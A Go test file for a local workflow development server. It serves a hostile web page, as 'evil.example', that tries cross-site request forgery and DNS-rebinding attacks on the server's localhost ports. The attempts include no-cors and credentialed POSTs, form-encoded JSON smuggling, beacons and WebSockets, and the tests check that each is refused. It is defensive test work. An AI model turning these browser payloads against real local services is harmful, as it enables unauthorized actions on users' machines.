package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/http/httputil"
	"net/url"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	"go.temporal.io/api/workflowservice/v1"
	"go.temporal.io/sdk/client"
)

// hostilePage tries every way in which a page can write to and read from
// another origin, and tells its own server what came of each.
const hostilePage = `<!doctype html><meta charset=utf-8><body><script>
const body = '{"workflowType": {"name": "Hostile"}, "taskQueue": {"name": "reprise"}}';
const found = {};
let next = 0;
const path = () => '/api/v1/namespaces/default/workflows/hostile-' + next++;
async function attempt(name, f) {
  const late = new Promise(done => setTimeout(done, 5000, 'no answer'));
  try { found[name] = String(await Promise.race([f(), late])); }
  catch (e) { found[name] = 'refused'; }
}
const answered = async promise => { const r = await promise; return r.type === 'opaque' ? 'sent' : r.status + ' ' + await r.text(); };
const post = (at, mode, type) => answered(fetch(at + path(), {method: 'POST', mode, body, headers: {'Content-Type': type}}));
const form = (at, method, name, value) => new Promise(done => {
  const frame = document.createElement('iframe');
  frame.name = 'frame' + next;
  document.body.append(frame);
  const f = document.createElement('form');
  f.method = method; f.enctype = 'text/plain'; f.action = at + path(); f.target = frame.name;
  const field = document.createElement('input');
  field.name = name; field.value = value;
  f.append(field); document.body.append(f);
  frame.onload = () => done('sent');
  f.submit();
});
const socket = at => new Promise(done => {
  const s = new WebSocket(at.replace('http', 'ws') + '/api/v1/namespaces');
  s.onopen = () => done('open'); s.onerror = () => done('refused');
});
(async () => {
  for (const at of TARGETS) {
    await attempt(at + ' text', () => post(at, 'no-cors', 'text/plain'));
    await attempt(at + ' text cors', () => post(at, 'cors', 'text/plain'));
    await attempt(at + ' json', () => post(at, 'cors', 'application/json'));
    await attempt(at + ' grpc-web', () => post(at, 'cors', 'application/grpc-web+proto'));
    await attempt(at + ' credentials', () => answered(fetch(at + path(), {method: 'POST', mode: 'no-cors', credentials: 'include', body})));
    await attempt(at + ' beacon', () => navigator.sendBeacon(at + path(), body));
    await attempt(at + ' form', () => form(at, 'POST', body.slice(0, -1) + ', "identity": "', '"}'));
    await attempt(at + ' put', () => answered(fetch(at + path(), {method: 'PUT', body})));
    await attempt(at + ' read', () => answered(fetch(at + '/api/v1/namespaces')));
    await attempt(at + ' page', () => answered(fetch(at + '/')));
    await attempt(at + ' socket', () => socket(at));
  }
  await fetch('/report', {method: 'POST', body: JSON.stringify(found)});
})();
</script>`

// hostile is a site whose page attacks targets, and what that page found.
type hostile struct {
	http.Handler
	report chan map[string]string
}

func newHostile(targets []string) hostile {
	h := hostile{report: make(chan map[string]string, 1)}
	list, _ := json.Marshal(targets)
	mux := http.NewServeMux()
	mux.HandleFunc("GET /attack", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		_, _ = fmt.Fprint(w, strings.Replace(hostilePage, "TARGETS", string(list), 1))
	})
	mux.HandleFunc("POST /report", func(_ http.ResponseWriter, r *http.Request) {
		found := map[string]string{}
		_ = json.NewDecoder(r.Body).Decode(&found)
		h.report <- found
	})
	h.Handler = mux
	return h
}

// visit lets the page do what it can and gives what it found.
func (h hostile) visit(t *testing.T, url string) map[string]string {
	t.Helper()
	browser := browse(t, url)
	defer browser.end()
	select {
	case found := <-h.report:
		return found
	case <-browser.exited:
		require.FailNow(t, "the browser has ended", browser.output.String())
	case <-time.After(2 * time.Minute):
		require.FailNow(t, "the page says nothing", url)
	}
	return nil
}

type browser struct {
	cmd    *exec.Cmd
	output bytes.Buffer
	exited chan struct{}
}

// browse opens a page in a browser of its own. Names that end in .example lead
// to 127.0.0.2, where hostile sites are.
func browse(t *testing.T, url string, flags ...string) *browser {
	t.Helper()
	program, err := exec.LookPath("chromium")
	require.NoError(t, err, "these tests need a browser: install the package chromium")
	flags = append([]string{
		"--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--disable-dev-shm-usage", "--no-first-run",
		"--disable-background-networking", "--disable-component-update", "--disable-sync", "--no-proxy-server",
		"--user-data-dir=" + t.TempDir(), "--host-resolver-rules=MAP *.example 127.0.0.2",
	}, append(flags, url)...)
	b := &browser{cmd: exec.Command(program, flags...), exited: make(chan struct{})}
	b.cmd.Stdout, b.cmd.Stderr = &b.output, nil
	b.cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	require.NoError(t, b.cmd.Start())
	go func() {
		defer close(b.exited)
		_ = b.cmd.Wait()
	}()
	t.Cleanup(b.end)
	return b
}

// end ends the browser with all its processes.
func (b *browser) end() {
	_ = syscall.Kill(-b.cmd.Process.Pid, syscall.SIGKILL)
	<-b.exited
}

// serveAt serves a site until the test ends and gives its port.
func serveAt(t *testing.T, at string, handler http.Handler) string {
	t.Helper()
	listener, err := (&net.ListenConfig{}).Listen(t.Context(), "tcp", at)
	require.NoError(t, err)
	site := &http.Server{Handler: handler, ReadHeaderTimeout: time.Minute}
	go func() { _ = site.Serve(listener) }()
	t.Cleanup(func() { _ = site.Close() })
	_, port, err := net.SplitHostPort(listener.Addr().String())
	require.NoError(t, err)
	return port
}

func runsOn(t *testing.T, p *process) []string {
	t.Helper()
	list, err := dial(t, p.server).ListWorkflow(t.Context(), &workflowservice.ListWorkflowExecutionsRequest{Namespace: "default"})
	require.NoError(t, err)
	var ids []string
	for _, run := range list.GetExecutions() {
		ids = append(ids, run.GetExecution().GetWorkflowId())
	}
	return ids
}

func portOf(t *testing.T, address string) string {
	t.Helper()
	_, port, err := net.SplitHostPort(strings.TrimPrefix(address, "http://"))
	require.NoError(t, err)
	return port
}

// TestABrowserOnAHostilePage: whatever port of the server the page tries, and
// by whatever name of this machine, it reads nothing and starts nothing.
func TestABrowserOnAHostilePage(t *testing.T) {
	t.Parallel()
	p := startProcess(t, "--port", "0", "--http-port", freePort(t))
	var targets []string
	for _, port := range listening(t, p.cmd.Process.Pid) {
		targets = append(targets, "http://127.0.0.1:"+port)
	}
	targets = append(targets, "http://localhost:"+portOf(t, p.ui))
	site := newHostile(targets)
	found := site.visit(t, "http://evil.example:"+serveAt(t, "127.0.0.2:0", site)+"/attack")
	require.Len(t, found, 11*len(targets))
	for attempt, result := range found {
		_, way, _ := strings.Cut(attempt, " ")
		switch way {
		case "text", "credentials", "beacon", "form": // a page cannot see what came of it
		default:
			require.Equal(t, "refused", result, attempt)
		}
	}
	require.Empty(t, runsOn(t, p))
}

// TestABrowserAfterRebinding: a page of a name that led elsewhere when it was
// loaded is of one origin with the server as soon as the name leads there.
func TestABrowserAfterRebinding(t *testing.T) {
	t.Parallel()
	api := freePort(t)
	p := startProcess(t, "--port", "0", "--http-port", api)
	for _, port := range []string{portOf(t, p.ui), api} {
		own := "http://rebound.example:" + port
		site := newHostile([]string{own})
		there, err := url.Parse("http://127.0.0.1:" + port)
		require.NoError(t, err)
		proxy := &httputil.ReverseProxy{Rewrite: func(r *httputil.ProxyRequest) {
			r.SetURL(there)
			r.Out.Host = r.In.Host // what leads the name here changes nothing in the request
		}}
		serveAt(t, "127.0.0.2:"+port, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if r.URL.Path == "/attack" || r.URL.Path == "/report" {
				site.ServeHTTP(w, r)
			} else {
				proxy.ServeHTTP(w, r)
			}
		}))
		found := site.visit(t, own+"/attack")
		for _, way := range []string{"text cors", "json", "put", "read", "page"} {
			require.Contains(t, found[own+" "+way], `403 devserver: this server is not "rebound.example:`, way)
		}
	}
	require.Empty(t, runsOn(t, p))
}

// TestABrowserShowsTheWebUI: with a key too, which the user need not type.
func TestABrowserShowsTheWebUI(t *testing.T) {
	t.Setenv(keyVariable, "k-123")
	const path = "/below/here"
	t.Setenv(uiPathVariable, path)
	socket := filepath.Join(privateFolder(t), "ui")
	t.Setenv(uiSocketVariable, socket)
	p := startProcess(t, "--port", "0")
	page := "http://127.0.0.1:" + serveAt(t, "127.0.0.1:0", leadTo(socket)) + path
	c, err := client.DialContext(t.Context(), client.Options{
		HostPort: p.server, Credentials: client.NewAPIKeyStaticCredentials("k-123"),
		ConnectionOptions: client.ConnectionOptions{TLSDisabled: true},
	})
	require.NoError(t, err)
	defer c.Close()
	_, err = c.ExecuteWorkflow(t.Context(), client.StartWorkflowOptions{ID: "to-be-seen", TaskQueue: "none"}, greetWorkflow, "world")
	require.NoError(t, err)
	shown := ""
	for range 5 { // a busy machine may show the page before its list
		window := browse(t, page+"/namespaces/default/workflows", "--virtual-time-budget=20000", "--dump-dom")
		select {
		case <-window.exited:
		case <-time.After(time.Minute):
			window.end()
		}
		if shown = window.output.String(); strings.Contains(shown, "to-be-seen") {
			break
		}
	}
	require.Contains(t, shown, "to-be-seen")
}
